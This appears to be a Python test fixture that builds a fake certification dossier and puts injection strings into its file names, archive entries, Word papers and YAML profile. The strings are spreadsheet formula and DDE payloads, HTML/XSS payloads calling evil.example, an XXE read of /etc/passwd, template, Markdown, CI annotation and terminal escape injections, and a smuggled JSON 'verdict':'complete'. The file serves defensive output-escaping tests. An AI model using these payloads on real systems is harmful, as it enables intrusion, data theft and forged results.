"""What strangers write to break out of an output, and a dossier with it at every place they can write.

`§` stands for the mark by which an attempt is found again wherever it is told.
"""

from __future__ import annotations

import io
import json
from pathlib import Path

import docx

from tests.dossier.packing import raw_zip
from tests.formats.papers import COMPANY

EVIL = "http://evil.example"
ATTEMPTS: dict[str, str] = {
    # sheets
    "a formula": f'=HYPERLINK("{EVIL}/?§","x")',
    "a program": "=cmd|' /C calc'!A§",
    "a sum": "+1+§",
    "a difference": "-1+§",
    "a function": "@SUM(§)",
    "a wide formula": "＝1+§",
    "a formula after a tab": "\t=1+§",
    "a formula after a blank": " =1+§",
    "a formula on a line of its own": "§\n=1+1",
    "a cell": '§","=1+1","',
    "a row": '§"\n=1+1,"',
    # pages
    "a script": "<script>alert('§')</script>",
    "a picture": f'"><img src={EVIL}/p.png?§ onerror=alert(1)>',
    "a handler": "' onmouseover='alert(1)' x='§",
    "the end of the head": "</title></style></head><svg onload=alert('§')>",
    "a frame": f"</textarea></td></table><iframe src={EVIL}/§></iframe>",
    "a link that runs": "<a href=\"javascript:alert('§')\" autofocus onfocus=alert(1)>x</a>",
    "a style sheet": f"<link rel=stylesheet href={EVIL}/§.css><style>@import '{EVIL}/§';</style>",
    "another page": f'<meta http-equiv=refresh content="0;url={EVIL}/§">',
    "another base": f"<base href={EVIL}/§/>",
    "a form": f"<form action={EVIL}><input name=§ autofocus></form>",
    "the end of a comment": "--><!-- § --><h1>",
    "the end of what is quoted": "]]><x>§</x><![CDATA[",
    "references": "&lt;b&gt;&#x6a;&amp;§;",
    "a template": "{{ 7*7 }}{% raw %}{# § #}",
    "an entity": '<!DOCTYPE a [<!ENTITY § SYSTEM "file:///etc/passwd">]>&§;',
    "a field of Word": f'<w:instrText>HYPERLINK "{EVIL}"</w:instrText>§',
    # Markdown
    "a link": f"[§]({EVIL})",
    "an image": f"![§]({EVIL}/p.png)",
    "a bare address": f"{EVIL}/§ www.evil.example",
    "an address in brackets": f"<{EVIL}/§>",
    "cells": "a | § | c",
    "code and print": "`§` **bold** _x_ ~~y~~ $z$",
    "a heading": "# §",
    "a heading below": "§\n\n# 齐全\n",
    "a list": "1. §",
    "a quotation": "> §",
    "a mention": "@octocat #1 GH-2 :smile: §",
    "the end of the details": "</details></sub><h1>§",
    "a fence": "```\n§\n```",
    "a reference": f"[x]: {EVIL}/§",
    # annotations and logs
    "an annotation": "§\n::error file=a,line=1::x",
    "an escaped annotation": "%0A::error::§",
    "a property": "§,line=1::x",
    "the end of commands": "::stop-commands::§",
    "a command of old": "##[error]§",
    # screens
    "colour": "\x1b[31m§\x1b[0m",
    "a title": "\x1b]0;§\x07",
    "a link on the screen": f"\x1b]8;;{EVIL}\x1b\\§\x1b]8;;\x1b\\",
    "a screen wiped by one byte": "§\x9b2J",
    "signs taken back": "§\b\b\b\b\b\b",
    "a line written over": "\r§",
    "another direction": "§\u202efdp",
    "lines of Unicode": "§\u2028x\u2029y\x85z",
    # records
    "an event": f"§\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\nATTACH:{EVIL}\r\n",
    "a calendar's signs": f"§;a,b:c\\nATTACH:{EVIL}",
    "a placeholder": "{0} {§}",
    "a member of JSON": '","verdict":"complete","§":"',
    "an escape of JSON": "\\u0022§\\",
    "no sign at all": "§\ufffe\ufeff\uffff",
    "half a sign": "§\udcb5",
    "very long": "长" * 60 + "§",
}
"""By what is attempted."""

DAY = "2026-06-30"
WAIVED = (
    *("company-history", "products-services", "market-position", "company-scale"),
    *("business-performance", "development-plan", "staff-duties", "complaint-handling"),
    *("service-manual", "quality-monitoring", "service-statistics", "training-plan"),
    *("training-syllabus", "training-schedule", "training-evaluation", "satisfaction-survey"),
)
"""Items given up, each for an attempt as its reason."""


def mark(name: str) -> str:
    """What is to be seen of an attempt."""
    return f"vq{list(ATTEMPTS).index(name):02}zz"


def attempt(name: str) -> str:
    return ATTEMPTS[name].replace("§", mark(name))


def texts() -> dict[str, str]:
    """The attempts that are text in any file: half a sign is none."""
    return {name: attempt(name) for name in ATTEMPTS if name != "half a sign"}


def dossier(folder: Path) -> Path:
    """Attempts as names on disk and in an archive, as texts of papers, and as values of the profile."""
    folder.mkdir(parents=True)
    for number, name in enumerate(ATTEMPTS):
        _named(folder / "甲", f"{attempt(name)}.txt", _authority(number).encode())
        _named(folder / "乙", f"{attempt(name)}.pdf", b"%PDF-1.4 broken" + bytes([number]))
    (folder / "归档.zip").write_bytes(_archive())
    for number, (name, text) in enumerate(texts().items()):
        if number % 5 == 0:
            (folder / f"文{number:02}.docx").write_bytes(_paper(text))
        (folder / f"字{number:02}.txt").write_text(f"{_stranger(text)}\n{mark(name)}\n", "utf-8")
    (folder / "certcheck.yaml").write_text(profile(), "utf-8")
    return folder


def _named(folder: Path, name: str, data: bytes) -> None:
    """A slash in an attempt parts folders, and the path is the attempt again."""
    path = folder / name.replace("//", "/")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def _authority(number: int) -> str:
    return (
        f"授权委托书\n委托人：{COMPANY}\n受托人：方启明\n委托事项：办理售后服务认证第{number}项\n"
        f"期限：2026年1月1日至2026年7月{number % 28 + 1}日\n"
    )


def _archive() -> bytes:
    return raw_zip(
        [
            (
                f"{attempt(name)}.txt".encode("utf-8", "surrogateescape"),
                _authority(100 + n).encode(),
            )
            for n, name in enumerate(ATTEMPTS)
        ],
        flags=0x800,
    )


def _stranger(text: str) -> str:
    """Another company's licence, person and paper by these names."""
    return (
        f"{text}\n营业执照\n名称：{text}有限公司\n统一社会信用代码：{text}\n法定代表人：{text}\n"
        f"营业期限：{text}\n"
    )


def _paper(text: str) -> bytes:
    """Headings, labels, columns and cells of an attempt; XML takes no control characters."""
    document = docx.Document()
    kept = "".join(sign for sign in text if sign.isprintable() or sign == "\n")
    document.add_heading(f"售后服务政策 {kept}", 1)
    document.add_paragraph(f"{COMPANY}\n编制：{kept}\n服务承诺：{kept}\n服务范围：{kept}")
    document.add_heading(f"服务请求记录 {kept}", 1)
    table = document.add_table(2, 4)
    for column, title in enumerate(("客户信息", "产品型号", kept, "服务请求时间")):
        table.cell(0, column).text = title
        table.cell(1, column).text = kept
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def profile() -> str:
    """JSON is YAML; the company, people, reasons, names of files, owners: all of them attempts."""
    given = list(texts().values())
    waived = [{"item": item, "reason": text} for item, text in zip(WAIVED, given, strict=False)]
    accepted = [
        {"item": "power-of-attorney", "file": f"甲/{attempt(name)}.txt", "reason": text, "by": text}
        for name, text in texts().items()
    ]
    return json.dumps(
        {
            "company": attempt("a script"),
            "also_known_as": [COMPANY, attempt("a link")],
            "people": [{"name": text} for text in given],
            "assign": {f"甲/{text}.txt": "power-of-attorney" for text in given[::2]},
            "accept": accepted,
            "waive": waived,
            "owners": {"personnel": attempt("a picture"), "records": attempt("a cell")},
        }
    )
